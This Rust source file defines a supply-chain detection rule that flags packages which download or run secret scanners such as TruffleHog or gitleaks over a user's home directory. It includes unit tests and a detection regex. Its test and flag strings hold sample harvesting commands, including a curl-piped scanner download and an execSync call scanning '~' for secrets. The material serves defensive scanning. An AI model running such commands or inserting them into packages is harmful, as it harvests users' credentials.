//! Rule `credential-scanner`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Fetches or runs a secret scanner (TruffleHog, gitleaks, detect-secrets, noseyparker) over
    /// the victim's disk: no library needs to sweep the user's home directory for secrets.
    id: "credential-scanner",
    category: Data,
    severity: Critical,
    capability: Some(crate::model::Capability::ChildProcess),
    title: "runs a secret scanner",
    incident: "Shai-Hulud 1 and 2 (2025) downloaded TruffleHog and scanned $HOME",
    case_file: "index.js",
    flag: ["execSync(`${bin} filesystem ${home} --json`); const bin = path.join(dir, 'trufflehog')",
           "const u = 'https://github.com/gitleaks/gitleaks/releases/download/v8/gitleaks_linux_x64.tar.gz'"],
    pass: ["// compatible with trufflehog-style output", "const scanners = []"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let re =
        crate::regex!(r"(?i)\b(trufflehog|gitleaks|detect-secrets|noseyparker|secretfinder)\b");
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let hits = find_text(f, re);
        let Some((off, m)) = hits.first().cloned() else {
            continue;
        };
        // A mention in a comment only is not use.
        let used = hits.iter().any(|(o, _)| {
            let o = *o as usize;
            let start = f.text[..o.min(f.text.len())]
                .rfind('\n')
                .map_or(0, |i| i + 1);
            let line = f.text[start..].trim_start();
            !(line.starts_with("//") || line.starts_with('*') || line.starts_with("/*"))
        });
        if !used {
            continue;
        }
        // Downloading a scanner, or running one from install-time code or next to network
        // code, is harvesting (Shai-Hulud); a CLI that runs a locally installed scanner over the
        // user's repository and prints the result is a security tool.
        let text = crate::rules::all_text(f);
        let fetches = super::has_network(f)
            || text.contains("releases/download")
            || crate::regex!(r"\b(curl|wget)\b").is_match(text);
        let sev = if pkg.is_install_file(f) || (f.js.is_some() && fetches) {
            Severity::Critical
        } else {
            Severity::High
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("fetches or runs the secret scanner {m}"),
        );
    }
}

#[cfg(test)]
mod severity_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    #[test]
    fn critical_when_the_scanner_is_downloaded() {
        let hits = run(
            &super::RULE,
            "lib/scan.js",
            "const u = 'https://github.com/trufflesecurity/trufflehog/releases/download/v3/t.tar.gz'; require('child_process').execSync(`curl -sL ${u} | tar -xz`); require('child_process').execSync('trufflehog filesystem ~ --json')",
        );
        assert!(
            hits.iter().any(|h| h.severity == Severity::Critical),
            "{hits:?}"
        );
    }

    #[test]
    fn high_not_critical_for_a_local_scanner_cli() {
        let hits = run(
            &super::RULE,
            "bin/cli.js",
            "const { spawnSync } = require('child_process'); const r = spawnSync('trufflehog', ['git', 'file://.', '--json']); console.log(r.stdout.toString())",
        );
        assert!(!hits.is_empty());
        assert!(
            hits.iter().all(|h| h.severity == Severity::High),
            "{hits:?}"
        );
    }
}
